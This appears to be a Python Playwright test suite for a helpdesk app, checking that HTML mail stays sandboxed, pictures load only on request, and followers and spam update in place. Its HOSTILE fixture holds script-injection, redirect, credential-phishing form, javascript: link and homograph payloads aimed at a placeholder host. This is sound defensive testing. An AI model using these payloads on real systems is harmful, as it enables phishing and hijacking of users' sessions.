"""Mails as their senders laid them out, on the real product: at home in the page, and caged."""

import re

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.make.browser import PHONE

pytestmark = [pytest.mark.browser, pytest.mark.timeout(400)]
HOSTILE = """
<p>Hello</p>
<script>top.document.title = 'stolen'; fetch('https://spy.example/')</script>
<meta http-equiv="refresh" content="0;url=https://spy.example/gone">
<base href="https://spy.example/"><link rel="stylesheet" href="https://spy.example/x.css">
<style>@import 'https://spy.example/y.css'; body { display: none }</style>
<form action="https://spy.example/"><input name="password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>
<img src="https://spy.example/wide.png" width="90000" height="90000" alt="Wide">
<img src=x onerror="top.location='https://spy.example/'">
<iframe src="https://spy.example/"></iframe><object data="https://spy.example/"></object>
<a href="javascript:top.document.title='stolen'">Click</a>
<a href="https://parcels.spy.example/login">https://bank.example/login</a>
<a href="https://b\u0430nk.example/">Our bank</a>
<svg onload="top.document.title='stolen'"><use href="https://spy.example/#x"/></svg>
<p style="width:99999px">wide</p>
"""


def laid_out(page: Page) -> FrameLocator:
    """Open the layout of the ticket's last mail; returns what is in its cage."""
    page.get_by_text("Show layout").last.click()
    return page.frame_locator(".layout-frame").frame_locator("iframe")


def test_hostile_html_stays_in_its_cage(sit, post):
    number = post(subject="Caged", text=HOSTILE, Content_Type="text/html; charset=utf-8")
    page = sit()
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.goto(f"/tickets/{number}/")

    cage = laid_out(page)
    expect(cage.get_by_text("Hello")).to_be_visible()

    expect(cage.get_by_role("link")).to_have_text(["https://bank.example/login", "Our bank"])
    expect(cage.locator(".host")).to_have_text(
        ["leads to parcels.spy.example", "leads to xn--bnk-6cd.example"]
    )
    expect(cage.locator("form, input, button, script, meta[http-equiv], base")).to_have_count(0)
    assert "stolen" not in page.title()
    assert page.url.endswith(f"/tickets/{number}/")
    assert not [url for url in asked if "spy.example" in url]
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    top = page.evaluate("document.elementFromPoint(innerWidth / 2, 20).closest('.ticket-head')")
    assert top is not None


def test_pictures_are_fetched_only_when_somebody_asks(sit, rich):
    page = sit()
    fetched: list[str] = []

    def picture(route) -> None:
        fetched.append(route.request.url)
        assert "referer" not in route.request.headers
        route.fulfill(status=200, content_type="image/gif", body=b"GIF89a")

    page.context.route(re.compile(r"nordpost\.example"), picture)
    page.goto(f"/tickets/{rich}/")
    cage = laid_out(page)
    own = cage.get_by_role("img", name="A parcel")
    expect(own).to_have_js_property("naturalWidth", 552)
    expect(cage.get_by_text("Map of the depot")).to_be_visible()
    assert fetched == []

    page.frame_locator(".layout-frame").get_by_role("link", name="Show pictures").click()
    hide = page.frame_locator(".layout-frame").get_by_role("link", name="Hide pictures")
    expect(hide).to_be_visible()
    cage.get_by_role("img", name="Map of the depot").scroll_into_view_if_needed()

    expect(cage.get_by_role("img", name="Map of the depot")).to_have_count(1)
    page.wait_for_timeout(300)
    assert fetched == ["https://pictures.nordpost.example/map.png"]
    page.reload()
    expect(laid_out(page).get_by_text("Map of the depot")).to_be_visible()


def test_the_layout_needs_no_script_and_takes_the_place_of_the_text(sit, rich):
    page = sit("ben", java_script_enabled=False, viewport=PHONE)
    page.goto(f"/tickets/{rich}/")
    expect(page.locator(".message-text")).to_be_visible()

    cage = laid_out(page)

    expect(cage.get_by_role("heading", name="Nordpost")).to_be_visible()
    expect(page.locator(".message-text")).to_be_hidden()
    page.get_by_text("Show text").click()
    expect(page.locator(".message-text")).to_be_visible()


def test_an_open_layout_outlives_a_refresh(sit, rich):
    page = sit()
    page.goto(f"/tickets/{rich}/")
    cage = laid_out(page)
    expect(cage.get_by_role("heading", name="Nordpost")).to_be_visible()
    loads: list[str] = []
    page.on("request", lambda each: loads.append(each.url) if "/layout/" in each.url else None)

    page.get_by_label("Priority", exact=True).select_option(label="High")

    expect(page.locator("#thread")).to_contain_text("set the priority to high")
    expect(cage.get_by_role("heading", name="Nordpost")).to_be_visible()
    assert loads == []


def test_a_link_opens_a_page_that_knows_nothing_of_the_desk(sit, rich):
    page = sit()
    page.context.route(
        "https://nordpost.example/**", lambda route: route.fulfill(status=200, body="Tracked")
    )
    page.goto(f"/tickets/{rich}/")

    with page.context.expect_page() as opened:
        laid_out(page).get_by_role("link", name="follow it").click()

    expect(opened.value.get_by_text("Tracked")).to_be_visible()
    assert opened.value.evaluate("[window.opener, document.referrer]") == [None, ""]


def test_followers_and_spam_change_without_a_reload(sit, post):
    number, page = post(subject="Follow me"), sit()
    page.goto(f"/tickets/{number}/")
    page.locator("#panel-followers > summary").click()

    page.get_by_label("Address of a new follower").fill("kim@work.example")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.locator(".followers")).to_contain_text("kim@work.example")
    expect(page.locator('[name="cc"]')).to_have_value("kim@work.example")
    page.get_by_role("button", name="Send kim@work.example no more copies").click()
    expect(page.locator(".followers")).to_have_count(0)
    expect(page.locator('[name="cc"]')).to_have_value("")
    page.get_by_role("button", name="Spam", exact=True).click()
    expect(page.locator(".ticket-sub")).to_contain_text("Spam")
    expect(page.locator(f"#t-{number}")).to_have_count(0)
    page.get_by_role("button", name="Not spam").click()

    expect(page.locator(".ticket-sub")).not_to_contain_text("Spam")
